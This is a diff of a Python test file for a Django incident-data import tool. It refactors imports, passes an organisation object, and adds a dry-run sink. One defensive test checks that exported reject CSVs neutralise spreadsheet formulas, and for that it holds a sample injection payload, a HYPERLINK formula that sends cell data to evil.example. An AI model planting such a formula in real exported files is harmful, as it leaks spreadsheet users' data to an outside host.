@@ -8,10 +8,11 @@ from typing import Any
 
 import pytest
 
+from ulinzi.accounts.models import Organisation
 from ulinzi.common import encrypted_files
 from ulinzi.incidents.models import Incident, IncidentChange, IncidentTerm
-from ulinzi.intake.imports import run_import
 from ulinzi.intake.models import ImportReject, ImportRun
+from ulinzi.intake.services import dry_run_csv, run_import
 
 from .conftest import HXL_HEADER, hxl_rows
 
@@ -20,7 +21,9 @@ pytestmark = pytest.mark.django_db
 
 def _run(path: Any, **kw: Any) -> Any:
     kw.setdefault("domain", "health_care_attack")
-    return run_import(path=path, organisation="partner", progress=False, **kw)
+    return run_import(
+        organisation=Organisation.objects.get(code="partner"), path=path, progress=False, **kw
+    )
 
 
 def test_same_file_twice_creates_nothing_new(org: Any, write_csv: Any) -> None:
@@ -79,7 +82,8 @@ def test_rows_without_an_id_get_one_from_their_content(org: Any, write_csv: Any)
 def test_dry_run_writes_nothing_but_reports(org: Any, write_csv: Any, settings: Any) -> None:
     rows = hxl_rows(4)
     rows[1][2] = "Atlantis"
-    result = _run(write_csv("dry.csv", [*HXL_HEADER, *rows]), dry_run=True)
+    path = write_csv("dry.csv", [*HXL_HEADER, *rows])
+    result = _run(path, dry_run=True, sink=dry_run_csv(path))
     assert (result.dry_run, result.created, result.rejected) == (True, 3, 1)
     assert not Incident.objects.exists() and not ImportRun.objects.exists()
     assert (
@@ -162,7 +166,7 @@ def test_rejects_csv_never_runs_formulas_on_the_command_line_or_the_web(
     import csv
     import io
 
-    from ulinzi.intake import rejects, uploads
+    from ulinzi.intake import rejects, services
 
     given = [
         rejects.Reject(4, "=Type", '=HYPERLINK("http://evil.example/?d="&A2,"Click")', "unknown"),
@@ -183,4 +187,4 @@ def test_rejects_csv_never_runs_formulas_on_the_command_line_or_the_web(
 
     run = ImportRun.objects.create(organisation=org, fmt="csv", file_name="t.csv")
     rejects.save(run, given)
-    assert list(csv.reader(io.StringIO("".join(uploads.rejects_csv(run))))) == expected
+    assert list(csv.reader(io.StringIO("".join(services.rejects_csv(run))))) == expected
